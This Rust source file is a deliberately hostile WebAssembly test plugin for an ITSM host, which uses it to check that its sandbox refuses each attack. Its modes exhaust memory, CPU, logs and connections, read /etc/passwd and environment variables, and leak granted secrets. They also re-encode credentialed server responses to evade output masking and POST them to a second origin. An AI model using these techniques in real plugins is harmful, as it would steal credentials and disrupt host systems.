//! Test plugin that misbehaves on purpose. Config `mode` picks how; the
//! host's hostile-plugin tests prove each one is stopped or refused.

use std::hint::black_box;

use itsm_sdk::{Context, Evidence, Outcome, Step, StepError, http, log, secrets};
use serde_json::json;

struct Hostile;

fn recurse(n: u64) -> u64 {
    let pad = black_box([n; 64]);
    if black_box(n) == u64::MAX {
        pad[0]
    } else {
        recurse(n + 1) + pad[1]
    }
}

impl Step for Hostile {
    fn run(ctx: &Context) -> Result<Outcome, StepError> {
        let ok = |outputs: serde_json::Value| {
            Ok(Outcome::new(outputs, Evidence::new("hostile", "none")))
        };
        match ctx.config("mode")? {
            "loop" => loop {
                black_box(());
            },
            "memory" => {
                // Grow toward 4 GiB, 16 MiB at a time, touching every page.
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                for _ in 0..256 {
                    hoard.push(vec![1u8; 16 << 20]);
                }
                ok(json!({ "held": hoard.len() }))
            }
            "recursion" => ok(json!({ "depth": recurse(0) })),
            "panic" => panic!("hostile plugin panicked on purpose"),
            "trap" => {
                #[cfg(target_arch = "wasm32")]
                core::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!()
            }
            "big-output" => ok(json!({ "blob": "x".repeat(100 << 20) })),
            "bad-json" => Ok(Outcome::new(
                json!("not an object"),
                Evidence::new("x", "y"),
            )),
            "http" => {
                let url = ctx.config("url")?;
                let resp = http::get(url).send()?;
                ok(json!({ "status": resp.status, "body": resp.text() }))
            }
            "env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                let home = std::env::var("HOME").map_err(|e| e.to_string());
                ok(json!({ "vars": vars.len(), "home": format!("{home:?}") }))
            }
            "file" => {
                let read = std::fs::read_to_string("/etc/passwd").map_err(|e| e.to_string());
                let dir = std::fs::read_dir("/")
                    .map(|_| ())
                    .map_err(|e| e.to_string());
                ok(json!({ "read": format!("{read:?}"), "list": format!("{dir:?}") }))
            }
            "socket" => {
                let url = ctx.config("url")?;
                let r = std::net::TcpStream::connect(url)
                    .map(|_| ())
                    .map_err(|e| e.to_string());
                ok(json!({ "connect": format!("{r:?}") }))
            }
            "secret" => {
                // Ask for a secret; if it is handed over, try to leak it everywhere.
                let name = ctx.config("url").unwrap_or("scim_token");
                match secrets::get(name) {
                    Ok(value) => {
                        log::info(&format!("the secret is {value}"));
                        println!("stdout: {value}");
                        Err(StepError::fatal(format!("leaking {value}")))
                    }
                    Err(e) => ok(json!({ "denied": e.to_string() })),
                }
            }
            "echo-secret-output" => {
                let value = secrets::get(ctx.config("url")?)?;
                ok(json!({ "copy": value }))
            }
            "log-flood" => {
                for i in 0..100_000 {
                    log::info(&format!("line {i} {}", "y".repeat(100)));
                }
                ok(json!({}))
            }
            "static-counter" => {
                // Global state: survives only as long as the instance does.
                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
                ok(json!({ "calls": n, "ticket": ctx.ticket_id }))
            }
            "kv" => {
                itsm_sdk::kv::set("k", b"v")?;
                ok(json!({}))
            }
            "exfiltrate" => exfiltrate(ctx),
            "hold" => {
                let n: usize = ctx.config("count")?.parse().unwrap_or(10);
                ok(raw::hold(ctx.config("url")?, n))
            }
            "fields" => {
                let n: usize = ctx.config("count")?.parse().unwrap_or(10_000);
                let size: usize = ctx.config("size")?.parse().unwrap_or(60 * 1024);
                ok(json!({ "created": raw::fields(n, size) }))
            }
            "big-request-header" => {
                let size: usize = ctx.config("size")?.parse().unwrap_or(1 << 20);
                let resp = http::get(ctx.config("url")?)
                    .header("x-big", &"h".repeat(size))
                    .send()?;
                ok(json!({ "status": resp.status }))
            }
            "many-requests" => {
                // Each with a long URL: the request log must stay bounded.
                let n: usize = ctx.config("count")?.parse().unwrap_or(1000);
                let long = "q".repeat(60_000);
                let mut statuses = 0;
                for i in 0..n {
                    let url = format!("{}?i={i}&pad={long}", ctx.config("url")?);
                    if http::get(&url).send().is_ok() {
                        statuses += 1;
                    }
                }
                ok(json!({ "answered": statuses }))
            }
            "kv-fill" => {
                let mut stored = 0u32;
                let value = vec![7u8; 64 * 1024];
                let mut error = String::new();
                for i in 0..4000 {
                    match itsm_sdk::kv::set(&format!("fill-{i}"), &value) {
                        Ok(()) => stored += 1,
                        Err(e) => {
                            error = e.to_string();
                            break;
                        }
                    }
                }
                ok(json!({ "stored": stored, "error": error }))
            }
            other => Err(StepError::fatal(format!("unknown mode {other}"))),
        }
    }

    fn verify(_: &Context) -> Result<Evidence, StepError> {
        Err(StepError::fatal("hostile"))
    }
}

/// Read what a credentialed server echoes back (GET and TRACE), then try
/// to get it out every way a plugin can: outputs, log, evidence, error, and
/// a second allowed origin, in forms output masking would not recognise.
fn exfiltrate(ctx: &Context) -> Result<Outcome, StepError> {
    let url = ctx.config("url")?;
    let mut seen = String::new();
    match http::get(url).send() {
        Ok(r) => {
            seen.push_str(&format!("{:?}", r.headers));
            seen.push_str(&r.text());
        }
        Err(e) => seen.push_str(&format!("GET failed: {e}")),
    }
    match http::Request::new("TRACE", url).send() {
        Ok(r) => seen.push_str(&r.text()),
        Err(e) => seen.push_str(&format!(" TRACE failed: {e}")),
    }
    let forms = json!({
        "plain": seen,
        "hex": seen.bytes().map(|b| format!("{b:02x}")).collect::<String>(),
        "reversed": seen.chars().rev().collect::<String>(),
        "upper": seen.to_uppercase(),
        "every_other": seen.chars().step_by(2).collect::<String>(),
        "split": seen.chars().map(|c| format!("{c} ")).collect::<String>(),
    });
    let text = forms.to_string();
    log::info(&text);
    if let Ok(drop) = ctx.config("url2") {
        let _ = http::post(drop).body(text.clone().into_bytes()).send();
    }
    if ctx.config("fail").is_ok() {
        return Err(StepError::fatal(text));
    }
    Ok(Outcome::new(
        forms.clone(),
        Evidence::new("exfiltrate", "none").before(forms),
    ))
}

/// Plain `wasi:http`, beneath the SDK: what a hostile plugin can do.
mod raw {
    use serde_json::{Value, json};
    use wasip2::http::outgoing_handler;
    use wasip2::http::types::{Fields, Method, OutgoingRequest, Scheme};

    fn request(url: &str) -> OutgoingRequest {
        let rest = url.strip_prefix("http://").unwrap_or(url);
        let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        let req = OutgoingRequest::new(Fields::new());
        req.set_method(&Method::Get).unwrap();
        req.set_scheme(Some(&Scheme::Http)).unwrap();
        req.set_authority(Some(authority)).unwrap();
        req.set_path_with_query(Some(if path.is_empty() { "/" } else { path }))
            .unwrap();
        req
    }

    /// Start `n` requests at once and only then wait for them: how many
    /// got a response, and the distinct errors of the rest.
    pub fn hold(url: &str, n: usize) -> Value {
        let mut futures = Vec::new();
        let mut errors = Vec::<String>::new();
        for _ in 0..n {
            match outgoing_handler::handle(request(url), None) {
                Ok(f) => futures.push(f),
                Err(e) => errors.push(format!("{e:?}")),
            }
        }
        let mut answered = 0;
        let mut responses = Vec::new();
        for f in &futures {
            f.subscribe().block();
            match f.get() {
                Some(Ok(Ok(r))) => {
                    answered += 1;
                    // Kept unread: the connection stays open.
                    responses.push(r);
                }
                Some(Ok(Err(e))) => errors.push(format!("{e:?}")),
                other => errors.push(format!("{other:?}")),
            }
        }
        errors.sort();
        errors.dedup();
        json!({ "answered": answered, "errors": errors })
    }

    /// Make `n` header sets of one `size`-byte header each and keep them all.
    pub fn fields(n: usize, size: usize) -> usize {
        let mut kept = Vec::new();
        let value = vec![b'v'; size];
        for i in 0..n {
            let f = Fields::new();
            f.append("x-fill", &value)
                .unwrap_or_else(|e| panic!("append {i}: {e:?}"));
            kept.push(f);
        }
        kept.len()
    }
}

itsm_sdk::export!(Hostile);
